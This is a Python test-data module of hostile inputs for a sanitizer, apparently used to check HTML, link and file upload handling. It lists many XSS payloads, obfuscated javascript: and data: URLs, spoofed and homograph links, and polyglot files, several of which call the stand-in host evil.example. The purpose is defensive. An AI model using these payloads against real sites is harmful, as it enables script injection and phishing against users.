"""Hostile strings for hostile.py: 120 that try to run a script, 60 texts with addresses, and files that hold scripts.

Whatever runs sets `hit`, opens a dialog, or asks evil.example for something.
"""
_js = "window.hit=1"
_long = "<b>" * 60 + "<img src=x onerror=hit=1>" + "\">'>" * 200

SCRIPTS = [
    f"<script>{_js}</script>", f"<ScRiPt>{_js}</sCrIpT>", f"<script >{_js}</script >", f"<script/x>{_js}</script>",
    "<script src=https://evil.example/x.js></script>", "<script src=//evil.example/x.js></script>",
    "<script type=module>globalThis.hit=1</script>", "<script>top.hit=1</script>", f"'\"><script>{_js}</script>",
    f"</script><script>{_js}</script>", f"</textarea></title></style><script>{_js}</script>",
    f"<scr<script>ipt>{_js}</scr</script>ipt>", f"<script>{_js}", f"<script\n>\n{_js}\n</script\n>",
    "<noscript><p title=\"</noscript><img src=x onerror=hit=1>\">",
]
HANDLERS = [
    f"<img src=x onerror={_js}>", f"<img src=x onerror=\"{_js}\">", "<img src=x onerror='alert(1)'>",
    f"<img/src=x/onerror={_js}>", f"<IMG SRC=x OnErRoR={_js}>", f"\" onerror=\"{_js}\" src=\"x",
    f"' onfocus='{_js}' autofocus='",
    f"\" onmouseover=\"{_js}", f"<body onload={_js}>", f"<input autofocus onfocus={_js}>",
    f"<details open ontoggle={_js}>x</details>", f"<video><source onerror={_js}></video>",
    f"<audio src=x onerror={_js}>",
    f"<marquee onstart={_js}>x</marquee>", f"<select autofocus onfocus={_js}>", f"<p onpointerenter={_js}>hover</p>",
    f"<dialog open onclose={_js}>", f"<button popovertarget=p>x</button><p id=p popover onbeforetoggle={_js}>",
    f"<a onclick={_js} href=#>click</a>", f"<slot onslotchange={_js}>x</slot>",
]
VECTORS = [
    f"<svg onload={_js}>", f"<svg/onload={_js}//", f"<svg><script>{_js}</script></svg>",
    f"<svg><a xlink:href=javascript:{_js}><text y=20>x</text></a></svg>",
    f"<svg><animate onbegin={_js} attributeName=x dur=1s>", f"<svg><set attributeName=onload to={_js}>",
    "<svg><use href=data:image/svg+xml;base64,PHN2ZyBpZD0ieCI+PC9zdmc+#x></svg>",
    f"<svg><foreignObject><iframe srcdoc='<script>parent.hit=1</script>'></foreignObject></svg>",
    f"<svg><style><img src=x onerror={_js}></style></svg>", f"<math href=javascript:{_js}>x</math>",
    f"<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=x onerror={_js}&gt;'>",
    f"<math><annotation-xml encoding=text/html><img src=x onerror={_js}></annotation-xml></math>",
]
ADDRESSES = [
    f"javascript:{_js}", f"JaVaScRiPt:{_js}", f"java\tscript:{_js}", f"java\nscript:{_js}", f" javascript:{_js}",
    f"javascript://example.com/%0a{_js}", f"javascript&colon;{_js}", "vbscript:msgbox(1)",
    f"data:text/html,<script>parent.{_js}</script>", "data:text/html;base64,PHNjcmlwdD5wYXJlbnQuaGl0PTE8L3NjcmlwdD4=",
    f"data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='{_js}'/>", "blob:null/1",
    "//evil.example/x.png",
    "http://evil.example/pixel.gif", "file:../../etc/passwd", "file:\"><img src=x onerror=hit=1>",
]
EMBEDS = [
    "<iframe src=javascript:parent.hit=1></iframe>", "<iframe srcdoc='<script>parent.hit=1</script>'></iframe>",
    "<object data=javascript:hit=1></object>", "<embed src=//evil.example/x.swf>", "<base href=//evil.example/>",
    "<link rel=stylesheet href=//evil.example/x.css>", "<meta http-equiv=refresh content='0;url=//evil.example/'>",
    "<form action=//evil.example/><button autofocus>x</button></form>", "<portal src=//evil.example/></portal>",
    "<style>@import '//evil.example/x.css';</style>", "<p style='background:url(//evil.example/x)'>x</p>",
    "x;background:url(//evil.example/y)", "}*{background:url(//evil.example/z)}", "expression(hit=1)",
]
ENCODED = [
    f"&lt;img src=x onerror={_js}&gt;", f"&#60;img src=x onerror={_js}&#62;",
    f"&#x3c;script&#x3e;{_js}&#x3c;/script&#x3e;",
    f"\\u003cimg src=x onerror={_js}\\u003e", f"%3Cimg%20src=x%20onerror={_js}%3E",
    f"\\x3cscript\\x3e{_js}\\x3c/script\\x3e",
    f"+ADw-script+AD4-{_js}+ADw-/script+AD4-",
]
TEMPLATES = [
    "{{constructor.constructor('hit=1')()}}", "${window.hit=1}", "`${window.hit=1}`", "<%= hit=1 %>", "#{hit=1}",
    "{count}{name}{title}", "$&$1$`$'", "%s%n%x",
]
BROKEN = [
    f"<img src=x onerror={_js}", f"<<img src=x onerror={_js}>>", f"<!--><img src=x onerror={_js}>-->",
    f"<![CDATA[><img src=x onerror={_js}>]]>", f"</template><img src=x onerror={_js}>",
    f"<?xml ?><img src=x onerror={_js}>",
    f"</li></ul></section><script>{_js}</script>",
]
CONTROLS = [
    f"<\x00script>{_js}</script>", f"<scr\x00ipt>{_js}</script>", f"\x01\x02\x1b[31m<img src=x onerror={_js}>",
    "\x7f\x85\u2028alert(1)\u2029",
]
UNICODE = [
    f"＜script＞{_js}＜/script＞", f"<ſcript>{_js}</ſcript>", f"<\u200bimg src=x onerror={_js}>",
    f"\ufeff<svg onload={_js}>",
    f"\ud83d<img src=x onerror={_js}>", "\u202e\u2066gnp.exe<img src=x onerror=hit=1>", "\u2067\u202dabc\u202c",
    "\u200f\u202eevil",
]
NAMES = [
    "__proto__", "constructor", "prototype", "hasOwnProperty", "toString", "hit", "<a id=hit name=hit>x</a>",
]
MIXED = [
    "jaVasCript:/*-/*`/*\\`/*'/*\"/**/(/* */oNcliCk=hit=1 )//%0D%0A//"
    "</stYle/</titLe/</teXtarEa/</scRipt/--!>\\x3csVg/<sVg/oNloAd=hit=1//>\\x3e",
    _long,
]
# The longest are cut where a field is shorter.
XSS = [*SCRIPTS, *HANDLERS, *VECTORS, *ADDRESSES, *EMBEDS, *ENCODED, *TEMPLATES, *BROKEN, *CONTROLS, *UNICODE, *NAMES,
       *MIXED]

# A text, the address of the only link in it (None: none), and the host that is shown after it.
LINKS = [
    *((text, None, None) for text in [
        "javascript:alert(1)", "JavaScript:alert(1)", "java\tscript:alert(1)", "\u0001javascript:alert(1)",
        "javascript&colon;alert(1)", "javascript:%61lert(1)", "ｊavascript:alert(1)", "vbscript:msgbox(1)",
        "livescript:x",
        "data:text/html,<script>alert(1)</script>", "DATA:image/svg+xml,<svg onload=alert(1)>", "data:,x",
        "about:blank",
        "file:///etc/passwd", "chrome://settings", "ftp://example.com", "ws://example.com", "sms:+4912345",
        "intent://scan/#Intent;scheme=zxing;end", "ms-msdt:/id", "//example.com", "/relative", "?query", "#fragment",
        "https:", "https://", "https:/example.com", "https:\\\\example.com", "https:example.com", "https://[::1",
        "https://example.com:99999/", "https://256.256.256.256/", "tel:*#06#", "tel:abc", "mailto:", "magnet:?xt=urn:x",
        "[x](javascript:alert(1))", "<a href=javascript:alert(1)>x</a>",
    ]),
    ("https://example.com/a?b=c#d", "https://example.com/a?b=c#d", None), ("HTTP://Example.COM:80/",
                                                                           "http://example.com/", None),
    ("www.example.com", "https://www.example.com/", None), ("mailto:a@example.com", "mailto:a@example.com", None),
    ("a.b@example.com", "mailto:a.b@example.com", None), ("tel:+49-170-123", "tel:+49-170-123", None),
    ("https://bank.example@evil.example/", "https://bank.example@evil.example/", "evil.example"),
    ("https://bank.example:443@evil.example/", "https://bank.example:443@evil.example/", "evil.example"),
    ("https://аpple.example/", "https://xn--pple-43d.example/", "xn--pple-43d.example"),
    ("https://xn--pple-43d.example/", "https://xn--pple-43d.example/", "xn--pple-43d.example"),
    ("https://ｅvil.example/", "https://evil.example/", "evil.example"),
    ("https://%65vil.example/", "https://evil.example/", "evil.example"),
    ("http://2130706433/", "http://127.0.0.1/", "127.0.0.1"), ("http://0x7f.1/", "http://127.0.0.1/", "127.0.0.1"),
    ("http://017700000001/", "http://127.0.0.1/", "127.0.0.1"),
    ("https://example.com/\"onmouseover=alert(1)", "https://example.com/", None),
    ("https://example.com/'onmouseover=alert(1)", "https://example.com/'onmouseover=alert(1)", None),
    ("https://example.com/<script>alert(1)</script>", "https://example.com/", None),
    ("https://example.com/javascript:alert(1)", "https://example.com/javascript:alert(1)", None),
    ("(https://example.com/x)", "https://example.com/x", None), ("[x](https://example.com/b)", "https://example.com/b",
                                                                 None),
    ("https://example.com/\u202egpj.exe", "https://example.com/", None),
]

_svg = ("<svg xmlns='http://www.w3.org/2000/svg' width='40' height='40' onload='parent.hit=1;alert(1)'>"
        "<script>parent.hit=1;top.hit=1;fetch('//evil.example/')</script>"
        "<image href='https://evil.example/x.png'/></svg>")
_html = ("<!doctype html><title>x</title><script>parent.hit=1;if(opener)opener.hit=1;alert(1)</script>"
         "<img src=x onerror=alert(1)>")
_gif = (b"GIF89a/*\x01\x00\x80\x00\x00\xff\xff\xff\x00\x00\x00,\x00\x00\x00\x00\x01\x00\x01\x00\x00\x02\x02D\x01\x00;"
        b"*/=1;self.hit=1;alert(1)//")
# A name, the media type that is claimed for it, and the bytes.
FILES = [
    ("x.svg", "image/svg+xml", _svg.encode()), ("x.html", "text/html", _html.encode()), ("page", None, _html.encode()),
    ("x.xhtml", "application/xhtml+xml", _html.replace("<!doctype html>",
                                                       "<html xmlns='http://www.w3.org/1999/xhtml'>").encode()),
    ("x.pdf", "application/pdf",
     b"%PDF-1.4\n1 0 obj<</Type/Catalog/OpenAction<</S/JavaScript/JS(app.alert(1))>>>>endobj\n%%EOF"),
    ("x.gif", "image/gif", _gif), ("x.js", "text/javascript", b"self.hit=1;alert(1)"),
    ("x.png", None, _html.encode()), ("x.mp4", None, _html.encode()),
    ("x.xml", "text/xml",
     b"<?xml version='1.0'?><x:script xmlns:x='http://www.w3.org/1999/xhtml'>parent.hit=1;alert(1)</x:script>"),
    ("x.html;.png", None, _html.encode()), ("x.css", "text/css",
                                                             b"*{background:url(//evil.example/)}"),
]
# What claims to be a picture and is none.
LIARS = [("image/png", _html.encode()), ("video/mp4", _html.encode()),
         ("image/png;text/html", _html.encode()), ("text/html\r\nX: y", _html.encode())]
